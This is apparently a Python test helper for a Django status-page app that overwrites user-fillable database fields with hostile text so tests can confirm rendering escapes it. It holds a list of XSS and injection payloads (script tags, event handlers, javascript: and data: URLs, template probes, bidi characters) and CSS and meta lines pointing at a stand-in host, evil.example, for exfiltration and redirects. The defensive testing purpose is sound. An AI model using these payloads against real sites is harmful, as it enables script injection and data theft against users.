"""Texts that attack whoever shows them, in every field of every row that people or other machines can fill.

The rows are laid down past the services, which refuse some of these texts: what shows them defends itself.
A new field is filled as well, unless it is named below.
"""

from itertools import count
from typing import Any

from django.apps import apps
from django.db import models

PAYLOADS = {
    "script": "<script>__ran=1</script>",
    "image": "<img src=x onerror=__ran=1>",
    "drawing": "<svg/onload=__ran=1>",
    "attribute": "\" autofocus onfocus=__ran=1 onmouseover='__ran=1' x='",
    "address": '<a href="jAvAscript:__ran=1">x</a> <a href="java&#x09;script:__ran=1">x</a>',
    "data": '<a href="data:text/html,<script>top.__ran=1</script>">x</a>',
    "markdown": "[x](javascript:__ran=1) ![x](data:text/html,<script>__ran=1</script>) <javascript:__ran=1>",
    "frame": '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
    "out of a script": "</script><script>__ran=1</script><!-- ]]><script>__ran=1</script>",
    "out of a style": "</style></title></textarea></template><script>__ran=1</script>",
    "form": "<form action=//evil.example><input formaction=javascript:__ran=1>",
    "head": '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    "template": "{{7321*7321}} ${7321*7321} {% debug %} %(name)s {0} {age}",
    "entities": "&#60;img src=x onerror=__ran=1&#62; \\u003cscript>__ran=1\\u003c/script>",
    "style": "url(javascript:__ran=1) expression(__ran=1)",
    "directions": "\u202eevil\u2066 \u200b Z\u0351\u036b\u0343algo",
}
EVERYTHING = " ".join(PAYLOADS.values())
NAME = EVERYTHING[:250]
ADDRESS = "https://evil.example/\"onfocus='__ran=1'><script>__ran=1</script>?javascript:__ran=1//"
"""Taken for an address of the web by every service."""
STYLE = (
    "body{background:url(javascript:__ran=1)}@import '//evil.example/x.css';"
    "@font-face{font-family:x;src:url(//evil.example/x)}"
    "input[value^=a]{background:url(//evil.example/a)}main{font-family:x;width:expression(__ran=1)}"
)

_APPS = {"statuspage", "incidents", "monitoring", "webhooks", "apikeys", "usersessions"}
# Ids, words of ours, digests, and what services make out of other fields.
_KEPT = {
    *("uid", "slug", "code", "kind", "status", "state", "cause", "format", "visibility", "door", "regions"),
    *("region", "location", "language", "languages", "time_zone", "schedule", "schedule_time_zone", "rrule"),
    *("password", "password_hash", "password_giver", "prefix", "digest", "secrets", "previous_secret"),
    *("ping_key", "preview_key", "session_key", "address_key", "dedupe_key", "scopes", "events", "config"),
    *("source_uid", "subject_uid", "page_uid", "actor_uid", "problem_uid", "actor_kind", "subject_kind"),
    *("html", "content_type", "analytics", "domain", "pictures", "image", "component_statuses"),
    *("reminder_intervals", "blueprint", "said", "recent", "named", "message"),
}


def fill(*, but: models.Model) -> set[str]:
    """Fill every text of every row but one's; gives the names of the fields that were filled."""
    filled = set()
    turn = count()
    for model in apps.get_models():
        if model._meta.app_label not in _APPS:
            continue
        fields = [field for field in model._meta.concrete_fields if _is_text(model, field)]
        for row in model._base_manager.all():
            if row == but:
                continue
            changes = {field.name: _hostile(field, getattr(row, field.name), next(turn)) for field in fields}
            if changes:
                model._base_manager.filter(pk=row.pk).update(**changes)
                filled |= {f"{model.__name__}.{name}" for name in changes}
    return filled


def _is_text(model: type[models.Model], field: Any) -> bool:
    kinds = (models.CharField, models.TextField, models.JSONField, models.BinaryField)
    if not isinstance(field, kinds) or field.choices or field.primary_key:
        return False
    if model.__name__ in ("StatusNote", "StatusClaim", "StatusPeriod") and field.name == "message":
        return True
    return field.name not in _KEPT and (model.__name__, field.name) != ("PagePicture", "data")


def _hostile(field: Any, value: Any, turn: int) -> Any:
    if field.name == "snapshot":
        return [{**row, "name": _text(turn)} for row in value]
    if isinstance(field, models.JSONField):
        return _leaves(value, turn)
    if isinstance(field, models.BinaryField):
        return EVERYTHING.encode()
    if isinstance(field, models.URLField) or str(value).startswith("http"):
        return ADDRESS
    return _text(turn)[: field.max_length or None]


def _leaves(value: Any, turn: int) -> Any:
    if isinstance(value, dict):
        return {key: _leaves(inner, turn + at) for at, (key, inner) in enumerate(value.items())}
    if isinstance(value, list):
        return [_leaves(inner, turn + at) for at, inner in enumerate(value)]
    if not isinstance(value, str):
        return value
    return ADDRESS if value.startswith(("http", "/")) else _text(turn)


def _text(turn: int) -> str:
    """All of them, another one first each time, so that fields that hold little get each in turn."""
    texts = list(PAYLOADS.values())
    begin = turn % len(texts)
    return " ".join(texts[begin:] + texts[:begin])
